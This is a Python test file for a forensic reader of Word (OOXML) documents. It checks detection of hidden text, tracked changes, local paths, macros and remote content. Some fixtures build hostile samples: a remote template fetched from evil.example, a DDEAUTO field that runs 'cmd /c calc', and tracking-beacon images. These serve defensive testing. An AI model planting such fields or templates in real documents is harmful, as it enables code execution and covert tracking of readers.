"""Word-processing documents in OOXML: history, what is hidden, what is fetched, what runs."""

import hashlib
import zipfile
from io import BytesIO

import pytest

from provenance.facts.model import Facts, Weight
from provenance.facts.office.ooxml import read_ooxml_facts
from tests.facts.office.compounds import compound
from tests.facts.office.packages import HONEST, WORD, Part, R, docx, docx_parts, word_part, zipped
from tests.facts.reading import AT, codes, one, said

U = "Users"  # spelled apart: a path of somebody's machine stands in no file of this project


def _read(data: bytes) -> Facts:
    facts = read_ooxml_facts(data, at=AT)
    assert facts.notes == (), facts.notes
    return facts


def _run(text: str, properties: str = "") -> str:
    inner = f"<w:rPr>{properties}</w:rPr>" if properties else ""
    return f"<w:p><w:r>{inner}<w:t>{text}</w:t></w:r></w:p>"


def test_an_honest_letter_states_itself_and_nothing_else() -> None:
    """A plain document yields its properties and not one observation."""
    facts = _read(docx())
    assert facts.observations == ()
    assert facts.properties["core.creator"] == "Joan Weber"
    assert facts.properties["core.created"] == "2019-03-04T09:15:00Z"
    assert facts.properties["app.AppVersion"] == "16.0000"
    assert facts.properties["app.TotalTime"] == "90"
    assert facts.properties["zip.made-by"] == "MS-DOS or Windows, version 4.5"


def test_properties_that_contradict_each_other() -> None:
    """Dates, program and effort are held against each other."""
    core = HONEST | {"modified": "2009-01-01T00:00:00Z", "lastModifiedBy": "M. Stone"}
    facts = _read(docx(core=core, app=WORD | {"TotalTime": "900"}))
    assert codes(facts, Weight.CONTRADICTION) == {
        "modified-before-created",
        "program-newer-than-modified",
    }
    assert "M. Stone" in said(facts, "last-modified-by-other")


def test_a_date_without_zone_is_flagged() -> None:
    """The property shows that the zone is missing, and an observation says so."""
    facts = _read(docx(core=HONEST | {"created": "2019-03-04T09:15:00"}))
    assert facts.properties["core.created"] == "2019-03-04T09:15:00 (no zone)"
    assert "created" in said(facts, "date-without-zone")


def test_tracked_changes_and_what_was_deleted() -> None:
    """Who changed what and when is told; deleted text is quoted, 200 characters of it, tamed."""
    lost = "the minister knew \u202e" + "x" * 400
    body = (
        '<w:p><w:ins w:author="A" w:date="2019-03-04T10:00:00Z"><w:r><w:t>new</w:t></w:r></w:ins>'
        '<w:del w:author="B" w:date="2019-03-04T10:05:00Z"><w:r><w:delText>'
        f"{lost}</w:delText></w:r></w:del>"
        '<w:moveFrom w:author="A" w:date="2019-03-04T10:06:00Z"/>'
        '<w:moveTo w:author="A" w:date="2019-03-04T10:06:00Z"/></w:p>'
    )
    facts = _read(docx(body))
    changes = one(facts, "tracked-changes")
    assert changes.weight is Weight.HIDDEN
    for part in ("1 insertion", "1 deletion", "1 move", '"A", "B"', "2019-03-04T10:00:00"):
        assert part in changes.text
    deleted = one(facts, "deleted-text")
    assert deleted.text.startswith('Deleted by "B", 2019-03-04T10:05:00 (no zone)')
    assert "the minister knew \\u{202e}x" in deleted.text
    assert "…" in deleted.text
    assert deleted.text.count("x") < 200
    assert facts.properties["marks.authors"] == "A; B"


def test_changes_outside_of_the_documents_life() -> None:
    """A change older than the document, or younger than its last saving, is a contradiction."""
    marks = "".join(
        f'<w:ins w:author="A" w:date="{when}"><w:r><w:t>x</w:t></w:r></w:ins>'
        for when in ("2018-01-01T00:00:00Z", "2019-05-01T00:00:00Z")
    )
    facts = _read(docx(f"<w:p>{marks}</w:p>"))
    assert codes(facts, Weight.CONTRADICTION) == {"change-before-created", "change-after-modified"}


def test_a_true_time_beside_the_false_one_gives_the_zone_away() -> None:
    """Word writes local time with a false Z, and since 2023 the true time too."""
    body = (
        '<w:p><w:ins w:author="A" w:date="2019-03-04T10:00:00Z"'
        ' w16du:dateUtc="2019-03-04T15:00:00Z"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'
    )
    facts = _read(docx(body))
    assert 'The clock of "A" stood at UTC-05:00' in one(facts, "author-time-zone").text
    assert "2019-03-04T15:00:00Z" in one(facts, "tracked-changes").text


def test_comments_with_authors_and_the_zone_of_their_clock() -> None:
    """Comments are counted and quoted; ids lead to the true time that is stored apart."""
    w14 = 'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
    cid = 'xmlns:c="http://schemas.microsoft.com/office/word/2016/wordml/cid"'
    cex = 'xmlns:c="http://schemas.microsoft.com/office/word/2018/wordml/cex"'
    comment = (
        f'<w:comment {w14} w:author="Eve" w:date="2019-03-04T10:00:00Z">'
        '<w:p w14:paraId="0A0B0C0D"><w:r><w:t>Cut this before it goes out</w:t></w:r></w:p>'
        "</w:comment>"
    )
    facts = _read(
        docx(
            rels=(
                ("comments", "comments.xml"),
                ("http://x/commentsIds", "commentsIds.xml"),
                ("http://x/commentsExtensible", "commentsExtensible.xml"),
            ),
            more={
                "word/comments.xml": word_part("comments", comment),
                "word/commentsIds.xml": f'<c:commentsIds {cid}><c:commentId c:paraId="0a0b0c0d"'
                ' c:durableId="1F"/></c:commentsIds>',
                "word/commentsExtensible.xml": f"<c:commentsExtensible {cex}><c:commentExtensible"
                ' c:durableId="1F" c:dateUtc="2019-03-04T06:30:00Z"/></c:commentsExtensible>',
            },
        )
    )
    assert '1 comment in it, by "Eve"' in one(facts, "comments").text
    assert "Cut this before it goes out" in one(facts, "comment-text").text
    assert "UTC+03:30" in one(facts, "author-time-zone").text


def test_hidden_white_and_tiny_text() -> None:
    """Three ways to hide text from a reader, each with its own code and the text quoted."""
    body = (
        _run("secret clause", "<w:vanish/>")
        + _run("not hidden", '<w:vanish w:val="0"/>')
        + _run("white words", '<w:color w:val="FFFFFF"/>')
        + _run("small print", '<w:sz w:val="2"/>')
        + _run("styled away", '<w:rStyle w:val="Ghost"/>')
    )
    ghost = '<w:style w:styleId="Ghost"><w:rPr><w:vanish/></w:rPr></w:style>'
    facts = _read(
        docx(
            body,
            rels=(("styles", "styles.xml"),),
            more={"word/styles.xml": word_part("styles", ghost)},
        )
    )
    assert "secret clausestyled away" in one(facts, "hidden-text").text
    assert "not hidden" not in one(facts, "hidden-text").text
    assert "white words" in one(facts, "white-text").text
    assert "small print" in one(facts, "tiny-text").text
    assert codes(facts) == {"hidden-text", "white-text", "tiny-text"}


def test_an_attribute_that_word_ignores_hides_nothing() -> None:
    """A decoy in a foreign namespace must not switch off what Word obeys."""
    body = (
        '<w:p xmlns:evil="http://www.w3.org/evil"><w:r><w:rPr><w:vanish evil:val="0"/></w:rPr>'
        '<w:t>gone</w:t></w:r><w:r><w:rPr><w:color evil:val="000000" w:val="FFFFFF"/></w:rPr>'
        "<w:t>pale</w:t></w:r></w:p>"
    )
    facts = _read(docx(body))
    assert '"pale"' in one(facts, "white-text").text


_CELL = (
    '<w:tbl><w:tblPr><w:tblStyle w:val="Grid"/></w:tblPr><w:tr><w:tc><w:p>{}</w:p></w:tc></w:tr>'
    "</w:tbl>"
)


@pytest.mark.parametrize(
    "around",
    [
        '<w:p><w:pPr><w:shd w:fill="1F3864"/></w:pPr>{}</w:p>',
        _CELL,
        "<w:p><w:r><w:txbxContent><w:p>{}</w:p></w:txbxContent></w:r></w:p>",
    ],
)
def test_white_text_that_is_meant_to_be_read_is_left_alone(around: str) -> None:
    """White on a colour, in a styled table or in a frame is a design, not a disguise."""
    run = '<w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>Heading</w:t></w:r>'
    assert codes(_read(docx(around.format(run)))) == set()


def test_white_text_on_a_coloured_page_is_left_alone() -> None:
    """The page's own colour counts too."""
    body = _run("Heading", '<w:color w:val="FFFFFF"/>')
    assert codes(_read(docx(body, head='<w:background w:color="112233"/>'))) == set()


def test_editing_sessions_link_two_documents() -> None:
    """Equal sets have one digest; the list shows what partly equal sets share."""

    def sessions(*values: str) -> Facts:
        inner = '<w:rsids><w:rsidRoot w:val="00AA0001"/>' + "".join(
            f'<w:rsid w:val="{value}"/>' for value in values
        )
        settings = word_part("settings", f"{inner}</w:rsids>")
        more = {"word/settings.xml": settings}
        return _read(docx(rels=(("settings", "settings.xml"),), more=more))

    one_file = sessions("00AA0001", "00bb0002", "nonsense")
    other = sessions("00BB0002", "00AA0001", "00AA0001")
    assert one_file.properties["rsids.list"] == "00AA0001 00BB0002"
    assert one_file.properties["rsids.count"] == "2"
    assert one_file.properties["rsids.sha256"] == other.properties["rsids.sha256"]
    assert one_file.properties["rsids.root"] == "00AA0001"
    assert one(one_file, "editing-sessions").weight is Weight.NOTE


def test_settings_that_protect_and_remove() -> None:
    """Protection, removal of names, and variables that no page shows."""
    inner = (
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:removePersonalInformation/>'
        '<w:docVars><w:docVar w:name="CaseNumber" w:val="7"/></w:docVars>'
    )
    more = {"word/settings.xml": word_part("settings", inner)}
    facts = _read(docx(rels=(("settings", "settings.xml"),), more=more))
    assert codes(facts) == {
        "document-protection",
        "personal-information-removed",
        "document-variables",
    }
    assert "CaseNumber" in said(facts, "document-variables")


def test_a_beacon_and_a_template_on_somebodys_computer() -> None:
    """A remote picture reveals the desk; the template's path names an account."""
    template = f"file:///C:\\{U}\\j.weber\\Templates\\Office.dotm"
    facts = _read(
        docx(
            outside=(
                ("image", "http://beacon.example/pixel.png"),
                ("attachedTemplate", template),
                ("hyperlink", "https://harmless.example/"),
                ("hyperlink", f"file:///C:\\{U}\\eve\\draft.docx"),
            )
        )
    )
    beacon = one(facts, "remote-content")
    assert beacon.weight is Weight.RISK
    assert "beacon.example" in beacon.text
    assert "harmless" not in " ".join(each.text for each in facts.observations)
    assert one(facts, "template-path").weight is Weight.HIDDEN
    assert '"j.weber"' in said(facts, "local-path")
    assert '"eve"' in said(facts, "local-path")
    assert facts.properties["template.path"].endswith("Office.dotm")
    assert facts.properties["links"] == "2"


def test_a_template_from_the_net_is_fetched() -> None:
    """Template injection: opening the document loads a template from an address."""
    facts = _read(docx(outside=(("attachedTemplate", "https://evil.example/t.dotm"),)))
    assert "its template" in one(facts, "remote-content").text


def test_fields_that_run_or_fetch() -> None:
    """A field code cut into runs and nested in another one is put together and told."""
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    code = "<w:r><w:instrText>{}</w:instrText></w:r>"
    begin, end = char.format("begin"), char.format("end")
    body = (
        "<w:p>"
        + begin
        + code.format("DDE")
        + code.format("AUTO cmd ")
        + code.format('"/c calc"')
        + char.format("separate")
        + end
        + begin
        + code.format("QUOTE ")
        + begin
        + code.format('INCLUDEPICTURE "http://beacon.example/x.png"')
        + end
        + end
        + "</w:p>"
        + '<w:p><w:fldSimple w:instr="DATE"/></w:p>'
    )
    facts = _read(docx(body))
    assert "DDEAUTO cmd" in one(facts, "dde-field").text
    assert "beacon.example" in one(facts, "remote-content").text


def test_embedded_files_macros_and_the_rest() -> None:
    """What is inside is named with size and digest; programs are told, not run."""
    label = (
        b"\x02\x00letter.pdf\0"
        + f"C:\\{U}\\eve\\letter.pdf\0".encode()
        + b"\0\0\3\0"
        + b"\x05\0\0\0temp\0"
        + b"\x04\0\0\0%PDF"
    )
    ole = compound({"\x01Ole10Native": len(label).to_bytes(4, "little") + label})
    facts = _read(
        docx(
            rels=(
                ("oleObject", "embeddings/oleObject1.bin"),
                ("package", "embeddings/table.xlsx"),
                ("aFChunk", "chunk.html"),
                ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vba.bin"),
                ("control", "activeX/activeX1.xml"),
                ("http://schemas.microsoft.com/office/2011/relationships/people", "people.xml"),
                ("fontTable", "fontTable.xml"),
                ("customXml", "../customXml/item1.xml"),
            ),
            root=(("http://x/metadata/thumbnail", "docProps/thumbnail.jpeg"),),
            more={
                "word/embeddings/oleObject1.bin": ole,
                "word/embeddings/table.xlsx": b"PK not really",
                "word/chunk.html": b"<html></html>",
                "word/vba.bin": b"macro",
                "word/activeX/activeX1.xml": b"<x/>",
                "word/people.xml": '<w15:people xmlns:w15="http://schemas.microsoft.com/office/'
                'word/2012/wordml"><w15:person w15:author="Eve"><w15:presenceInfo'
                ' w15:providerId="AD" w15:userId="S::eve@ministry.example::1f"/></w15:person>'
                "</w15:people>",
                "word/fontTable.xml": word_part(
                    "fonts", '<w:font w:name="Secret Sans"><w:embedRegular/></w:font>'
                ),
                "customXml/item1.xml": b"<a/>",
                "docProps/thumbnail.jpeg": b"\xff\xd8\xff",
            },
        )
    )
    assert codes(facts) == {
        "embedded-file",
        "packed-file",
        "local-path",
        "macros",
        "active-x",
        "account-name",
        "embedded-fonts",
        "custom-data",
        "thumbnail",
    }
    assert hashlib.sha256(b"PK not really").hexdigest() in said(facts, "embedded-file")
    assert "merged into the text" in said(facts, "embedded-file")
    packed = one(facts, "packed-file").text
    assert hashlib.sha256(b"%PDF").hexdigest() in packed
    assert '"letter.pdf", 4 bytes' in packed
    assert '"eve"' in one(facts, "local-path").text
    assert one(facts, "macros").weight is Weight.RISK
    assert "eve@ministry.example" in one(facts, "account-name").text
    assert "Secret Sans" in one(facts, "embedded-fonts").text


def test_a_part_that_nothing_leads_to() -> None:
    """A part without a relationship is in the file and shown by no program."""
    parts = docx_parts(more={"word/old.xml": word_part("document", "")})
    facts = _read(zipped(parts))
    assert "word/old.xml" in one(facts, "unreachable-part").text


def test_custom_properties_and_labels() -> None:
    """Custom properties are copied; a confidentiality label names who set it."""
    guid = "0a0a0a0a-1111-2222-3333-444444444444"
    inner = "".join(
        f'<property name="{name}"><v>{value}</v></property>'
        for name, value in (
            ("Client", "Ministry"),
            (f"MSIP_Label_{guid}_Owner", "eve@ministry.example"),
            (f"MSIP_Label_{guid}_Enabled", "true"),
        )
    )
    facts = _read(
        docx(
            root=(("custom-properties", "docProps/custom.xml"),),
            more={"docProps/custom.xml": f"<Properties>{inner}</Properties>"},
        )
    )
    assert facts.properties["custom.Client"] == "Ministry"
    assert "eve@ministry.example" in one(facts, "sensitivity-label").text


def test_who_packed_it_and_when() -> None:
    """Office leaves its own marks in the archive; another packer is seen, and its clock held."""
    parts = docx_parts()
    facts = _read(zipped(parts, stamp=(2019, 6, 1, 12, 0, 0), made_by=3 << 8 | 20))
    assert codes(facts) == {"packed-by-other-program", "packed-after-modified"}
    assert facts.properties["zip.made-by"] == "Unix, version 2.0"
    assert facts.properties["zip.newest-part"] == "2019-06-01T12:00:00 (no zone)"
    early = _read(zipped(parts, stamp=(2018, 6, 1, 12, 0, 0)))
    assert "packed-before-modified" in codes(early)
    wps = _read(zipped(parts, stamp=(2012, 7, 2, 9, 52, 14)))
    assert wps.properties["zip.packer"].startswith("WPS Office")
    assert codes(wps) == {"packed-by-other-program"}


def test_homoglyphs_and_marks_in_the_text() -> None:
    """The running text is searched like any other, across runs."""
    body = "<w:p><w:r><w:t>pay\u200b</w:t></w:r><w:r><w:t>m\u0435nt</w:t></w:r></w:p>"
    assert codes(_read(docx(body))) == {"zero-width", "mixed-scripts"}


def test_a_cropped_picture_is_whole_in_the_file() -> None:
    """What was cut away from a picture is still there."""
    body = '<w:p><w:r><a:blipFill><a:srcRect l="25000"/></a:blipFill></w:r></w:p>'
    assert "1 picture is shown cropped" in one(_read(docx(body)), "cropped-picture").text
    assert codes(_read(docx(body.replace("25000", "10")))) == set()


def test_the_strict_form_is_read_alike() -> None:
    """ISO 29500 strict has other namespaces and the same meaning."""
    strict = {
        "http://schemas.openxmlformats.org/wordprocessingml/2006/main": "http://purl.oclc.org/"
        "ooxml/wordprocessingml/main",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/": "http://purl.oclc."
        "org/ooxml/officeDocument/relationships/",
    }
    plain = docx(_run("secret", "<w:vanish/>"), outside=(("image", "http://beacon.example/a"),))
    parts = dict[str, Part]()
    with zipfile.ZipFile(BytesIO(plain)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode()
            for old, new in strict.items():
                text = text.replace(old, new)
            parts[name] = text
    assert codes(_read(zipped(parts))) == {"hidden-text", "remote-content"}


def test_labels_in_their_newer_home_and_an_add_in() -> None:
    """A label outside of the properties, and a pane that loads a page."""
    label = '<l:labelList xmlns:l="http://x"><l:label siteId="{org-7}"/></l:labelList>'
    ms = "http://schemas.microsoft.com/office"
    facts = _read(
        docx(
            root=(
                (f"{ms}/2020/02/relationships/classificationlabels", "docMetadata/LabelInfo.xml"),
                (f"{ms}/2011/relationships/webextensiontaskpanes", "word/panes.xml"),
            ),
            more={"docMetadata/LabelInfo.xml": label, "word/panes.xml": "<x/>"},
        )
    )
    assert "{org-7}" in one(facts, "sensitivity-label").text
    assert one(facts, "web-add-in").weight is Weight.RISK


def test_more_than_one_set_of_properties() -> None:
    """The format allows one part of core properties; the first is read, the fact is told."""
    root = (("http://x/metadata/core-properties", "docProps/core2.xml"),)
    facts = _read(docx(root=root, more={"docProps/core2.xml": "<x/>"}))
    assert codes(facts) == {"several-property-parts"}


@pytest.mark.parametrize(
    ("parts", "note"),
    [
        ({"word/document.xml": "<x/>"}, "no document, workbook or presentation"),
        ({"word/document.xml": "<x>"}, "not well-formed"),
        ({"_rels/.rels": "<Relationships/>"}, "no relationship leads to a main part"),
        (
            {"_rels/.rels": f'<Relationships><Relationship Type="{R}/officeDocument"'
             ' Target="xl/workbook.bin"/></Relationships>', "xl/workbook.bin": b"x"},
            "a binary workbook",
        ),
    ],
)  # fmt: skip
def test_what_cannot_be_read_is_noted(parts: dict[str, Part], note: str) -> None:
    """A main part that is none, is broken, or is not there leaves a note and the rest."""
    facts = read_ooxml_facts(zipped({**docx_parts(), **parts}), at=AT)
    assert any(note in each for each in facts.notes), facts.notes


def test_a_property_that_is_no_date_is_shown_and_noted() -> None:
    """A date in words is copied as it stands."""
    facts = read_ooxml_facts(docx(core=HONEST | {"created": "last spring"}), at=AT)
    assert facts.properties["core.created"] == "last spring"
    assert facts.notes == ("core.created is not a date",)


def test_a_part_that_the_archive_encrypts_is_noted() -> None:
    """A part behind a password of the archive is left out, the others are read."""
    data = bytearray(docx())
    at = data.index(b"PK\x01\x02")
    while at >= 0:
        name = data[at + 46 : at + 46 + int.from_bytes(data[at + 28 : at + 30], "little")]
        if name == b"word/document.xml":
            data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 46)
    facts = read_ooxml_facts(bytes(data), at=AT)
    assert facts.notes == ("part word/document.xml was not read: it is encrypted",)
    assert facts.properties["core.creator"] == "Joan Weber"


def test_backslashes_in_names_are_read_as_they_were_meant() -> None:
    """Some writers use them between folders; the parts are found all the same."""
    parts = {name.replace("/", "\\"): data for name, data in docx_parts().items()}
    facts = _read(zipped(parts))
    assert facts.properties["core.creator"] == "Joan Weber"
    assert codes(facts) == {"backslash-part-names"}
